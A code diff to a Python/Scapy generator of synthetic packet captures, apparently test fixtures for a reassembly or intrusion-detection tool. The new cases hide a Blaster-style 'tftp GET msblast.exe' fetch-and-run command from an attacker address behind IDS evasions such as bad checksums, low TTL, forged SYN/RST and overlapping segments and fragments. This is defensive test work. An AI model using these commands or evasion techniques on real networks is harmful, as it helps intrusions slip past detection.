@@ -67,6 +67,7 @@ class Capture:
         self.pkts = []
         self.events = []      # (time, src, sport, dst, dport, action, file, server)
         self.files = []       # (name, bytes)
+        self.keep_order = False
 
     def add(self, pkt, t):
         pkt.time = t
@@ -80,6 +81,8 @@ class Capture:
         self.events.append((t, attacker, aport, victim, vport, action, file, server))
 
     def sorted_pkts(self):
+        if self.keep_order:
+            return list(self.pkts)
         return sorted(self.pkts, key=lambda p: float(p.time))
 
     def tsv(self):
@@ -109,21 +112,26 @@ class Session:
         self.t += dt
         return self.t
 
-    def _ip(self, from_client):
+    def _ip(self, from_client, ttl=None):
         self.ipid += 1
         if from_client:
-            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=113)
-        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=128)
+            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=ttl or 113)
+        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=ttl or 128)
 
-    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None):
+    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None, ttl=None,
+            ack=None, window=None, ipchksum=None):
+        if ack is None:
+            ack = 0 if flags == "S" else (self.sseq if from_client else self.cseq)
         tcp = TCP(sport=self.cport if from_client else self.sport,
                   dport=self.sport if from_client else self.cport, flags=flags,
                   seq=seq if seq is not None else (self.cseq if from_client else self.sseq),
-                  ack=0 if flags == "S" else (self.sseq if from_client else self.cseq),
-                  window=64240)
+                  ack=ack, window=window if window is not None else 64240)
         if chksum is not None:
             tcp.chksum = chksum
-        pkt = self._ip(from_client) / tcp
+        ip = self._ip(from_client, ttl)
+        if ipchksum is not None:
+            ip.chksum = ipchksum
+        pkt = ip / tcp
         if data:
             pkt = pkt / Raw(data)
         self.cap.add(self.l2(pkt), t if t is not None else self.tick())
@@ -741,6 +749,189 @@ def case_shell_stager():
             output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
     sh.type("stage2.exe", [("exec", "stage2.exe")])
     sh.close()
+# ---------------------------------------------- evasions (issue 13), each resolved as
+# the Windows victim resolves it: reassembly/README.md gives every rule and its source
+
+JUNK = "tftp -i 81.132.114.254 GET xxxxxxx.exe"     # as long as the real GET line
+REAL = "tftp -i 81.132.114.254 GET msblast.exe"
+
+
+def insertion(junk_kw):
+    """A junk copy of the GET line the victim refuses, then the real line."""
+    def case():
+        cap = Capture()
+        s = Session(cap)
+        s.handshake()
+        kw = dict(junk_kw)
+        flags = kw.pop("flags", "PA")
+        s.seg(True, flags, (JUNK + "\n").encode(), **kw)
+        s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+        s.line("start msblast.exe", [("start", "msblast.exe")])
+        s.close()
+        return cap
+    return case
+
+
+def case_forged_syn():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.seg(True, "S", seq=s.cseq + 900000)                 # out of the window: ignored
+    s.seg(True, "S", seq=s.cseq + 10, chksum=0xdead)      # in the window, bad checksum
+    s.send("start ")
+    s.seg(True, "S", seq=s.cseq + 50000000, ttl=1)        # mid-line, TTL 1
+    s.line("msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    return cap
+
+
+def case_beyond_window():
+    """The victim offers 512 bytes; junk sent past that is dropped, not queued."""
+    cap = Capture()
+    s = Session(cap)
+    s.seg(True, "S", seq=s.isn)
+    s.seg(False, "SA", seq=s.sisn, window=512)
+    s.seg(True, "A")
+    s.seg(False, "PA", BANNER, window=512)
+    s.sseq += len(BANNER)
+    s.seg(True, "A")
+    pad = "echo " + "A" * 600
+    junk_at = s.cseq + len(pad) + 1      # where the real GET line will start
+    s.seg(True, "PA", (JUNK + "\n").encode(), seq=junk_at)     # beyond the 512 bytes
+    s.send(pad + "\n")
+    s.seg(False, "A", window=512)
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.close()
+    return cap
+
+
+def case_rst_mid_line():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.send("tftp -i 81.132.114.254 ")
+    s.seg(False, "R", seq=s.sseq + 200000)                # out of window
+    s.seg(True, "R", seq=s.cseq + 300000)                 # out of window
+    s.seg(True, "R", seq=s.cseq, chksum=0xdead)           # in window, bad checksum
+    s.seg(True, "R", seq=s.cseq, ttl=2)                   # in window, TTL too low
+    s.line("GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
+    s.close()
+    return cap
+
+
+def case_duplicate_after_rst():
+    """As in the real 2003 capture: a mid-stream session, RST, then the same packets again."""
+    cap = Capture()
+    s = Session(cap)
+    s.sseq += len(BANNER)
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.line("msblast.exe", [("exec", "msblast.exe")])
+    s.reset()
+    for p in list(cap.pkts):
+        cap.add(p.copy(), float(p.time) + 5)
+    return cap
+
+
+def case_data_after_fin():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.seg(True, "FA")
+    s.cseq += 1
+    s.seg(True, "PA", b"start evil.exe\n", seq=s.cseq - 1)    # at the FIN's place
+    s.seg(True, "PA", b"start evil2.exe\n", seq=s.cseq)       # after it
+    s.seg(False, "FA")
+    s.sseq += 1
+    s.seg(True, "A")
+    return cap
+
+
+def case_replay_closed():
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    data = [p for p in cap.pkts if p.haslayer(Raw) and p[TCP].sport == s.cport]
+    for p in data:                                         # the client's data, no SYN
+        cap.add(p.copy(), float(p.time) + 30)
+    return cap
+
+
+def case_tcp_overlap():
+    """Out-of-order overlaps: Windows keeps the first copy unless a later one covers it
+    entirely and starts before it (Novak & Sturges 2007; Snort 3 full_right_overlap_os1)."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    text = (REAL + "\n").encode()
+    base = s.cseq
+    # 1: same start, same length: the first copy (real) stays
+    s.seg(True, "PA", text[8:], seq=base + 8)
+    s.seg(True, "PA", (JUNK + "\n").encode()[8:], seq=base + 8)
+    s.seg(True, "PA", text[:8], seq=base)
+    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
+    s.cseq = base + len(text)
+    s.seg(False, "A")
+    # 2: junk queued first, then a real copy starting before it and covering it: real wins
+    line2 = b"start msblast.exe\n"
+    base = s.cseq
+    s.seg(True, "PA", b"evil.exe", seq=base + 6)
+    s.seg(True, "PA", line2[4:], seq=base + 4)
+    s.seg(True, "PA", line2[:4], seq=base)
+    cap.expect(s.t, s, "start", "msblast.exe")
+    s.cseq = base + len(line2)
+    s.seg(False, "A")
+    s.close()
+    return cap
+
+
+def case_ipfrag_overlap():
+    """Fragment overlaps, Windows: the first copy wins unless a later fragment starts
+    before an earlier one and ends after it (Novak 2005; Suricata defrag.c, windows)."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    text = (REAL + "\n").encode()
+    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
+                           window=64240) / Raw(text)
+    ip = IP(bytes(ip))
+    raw = bytes(ip[TCP])            # 20 header bytes, then the line
+    junk = raw[:20] + (JUNK + "\n").encode()
+
+    def frag(off, chunk, mf):
+        return IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
+                  ttl=113) / Raw(chunk)
+    cap.add(s.l2(frag(0, raw[:24], 1)), s.tick())
+    cap.add(s.l2(frag(40, raw[40:48], 1)), s.tick())       # real bytes 40..47
+    cap.add(s.l2(frag(40, junk[40:48], 1)), s.tick())      # same place: the first stays
+    cap.add(s.l2(frag(32, b"XXXXXXXX", 1)), s.tick())      # junk 32..39, then covered:
+    cap.add(s.l2(frag(24, raw[24:48], 1)), s.tick())       # starts before, ends after it
+    cap.add(s.l2(frag(48, raw[48:], 0)), s.tick())
+    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
+    s.cseq += len(text)
+    s.seg(False, "A")
+    s.line("start msblast.exe", [("start", "msblast.exe")])
+    s.close()
+    return cap
+
+
+def case_clock_jumps():
+    """One packet 20 years ahead, one 20 years back, in the middle of a line."""
+    cap = Capture()
+    s = Session(cap)
+    s.handshake()
+    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
+    s.send("start ms")
+    s.seg(False, "A", t=s.t + 20 * 365 * 86400)
+    s.seg(False, "A", t=s.t - 20 * 365 * 86400)
+    cap.keep_order = True           # the file keeps these where they were sent
+    s.tick(30)
+    s.line("blast.exe", [("start", "msblast.exe")])
+    s.close()
     return cap
 
 
@@ -780,6 +971,20 @@ CASES = {
     "shell-ftp-interactive": case_shell_ftp_interactive,
     "shell-long-line": case_shell_long_line,
     "shell-stager": case_shell_stager,
+    "evasion-forged-syn": case_forged_syn,
+    "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
+    "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
+    "evasion-ttl": insertion({"ttl": 1}),
+    "evasion-no-ack": insertion({"flags": "P"}),
+    "evasion-bad-ack": insertion({"ack": 5000001 + 900000}),
+    "evasion-beyond-window": case_beyond_window,
+    "evasion-rst": case_rst_mid_line,
+    "duplicate-after-rst": case_duplicate_after_rst,
+    "data-after-fin": case_data_after_fin,
+    "replay-closed": case_replay_closed,
+    "tcp-overlap": case_tcp_overlap,
+    "ipfrag-overlap": case_ipfrag_overlap,
+    "clock-jumps": case_clock_jumps,
 }
 
 
